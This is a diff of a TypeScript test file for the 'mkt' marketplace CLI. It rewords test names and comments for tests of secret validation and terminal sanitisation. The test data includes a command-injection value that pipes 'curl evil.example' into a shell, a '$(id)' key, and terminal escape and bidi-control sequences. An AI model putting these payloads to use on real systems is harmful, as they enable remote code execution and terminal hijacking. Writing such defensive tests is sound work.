@@ -9,7 +9,7 @@ import { runMkt } from './run-mkt.ts';
 const GOOD = formatSigningSecret(new Uint8Array(32).fill(1));
 const CODE = 'whsec_$(curl evil.example|sh)';
 
-/** Whatever a terminal would act on; a line's end is not. */
+/** The characters that a terminal acts on, except line feeds. */
 const CONTROLS = /(?!\n)[\p{Cc}\p{Bidi_Control}]/u;
 
 let cwd: string;
@@ -18,7 +18,7 @@ beforeEach(async () => {
 });
 afterEach(() => rm(cwd, { recursive: true }));
 
-/** A marketplace that answers everything with this. */
+/** Runs a command against a marketplace that sends this response to every request. */
 async function against(body: unknown, argv: readonly string[]) {
   await using market = await fakeMarketplace(() => ({ body }));
   return await runMkt(argv, { cwd, env: market.env });
@@ -52,14 +52,14 @@ describe('an invalid signing secret', () => {
     }
   });
 
-  it('is told from a good one', async () => {
+  it('is distinguished from a valid one', async () => {
     const { code, stdout } = await against(body(GOOD), ['secrets', 'pull', 'a', '--print-secret']);
     expect([code, stdout]).toEqual([0, `MKT_SIGNING_SECRET=${GOOD}\n`]);
   });
 });
 
-describe('what a marketplace says', () => {
-  it('as the time of a rotation cannot act on the terminal', async () => {
+describe('text from a marketplace', () => {
+  it('cannot control the terminal as the time of a rotation', async () => {
     const { stderr } = await against(
       { secret: GOOD, createdAt: 'x', previousExpiresAt: '\u001b]0;owned\u0007\u202e' },
       ['secrets', 'rotate', 'a'],
@@ -68,14 +68,14 @@ describe('what a marketplace says', () => {
     expect(stderr).not.toMatch(CONTROLS);
   });
 
-  it('as an order’s id cannot act on the terminal', async () => {
+  it('cannot control the terminal as the id of an order', async () => {
     const order = { id: 'o\u001b[8m\u009b2J', orderState: 'running', listingId: 'l' };
     const { stdout, stderr } = await against(order, ['run', 'a', '--no-wait']);
-    expect(stderr).toContain('mkt orders wait o');
+    expect(stderr).toContain("mkt orders wait 'o");
     expect(stdout + stderr).not.toMatch(CONTROLS);
   });
 
-  it('as a new API key is printed only when it is one', async () => {
+  it('is printed as a new API key only if it is one', async () => {
     const argv = ['keys', 'create', '--name', 'k', '--scopes', 'order:read'];
     const bad = await against({ id: 'k', name: 'k', key: '$(id)', scopes: [] }, argv);
     expect([bad.code, bad.stdout]).toEqual([7, '']);
@@ -85,7 +85,7 @@ describe('what a marketplace says', () => {
 });
 
 describe('mkt whoami', () => {
-  it('names the key, or the session when there is no key', async () => {
+  it('names the key, or the session if there is no key', async () => {
     const me = { userId: 'u', scopes: ['order:read'] };
     const key = await against({ ...me, keyId: 'k-1', sessionId: null }, ['whoami']);
     expect(key.stdout).toMatch(/key +k-1 \(MKT_API_KEY\)/);
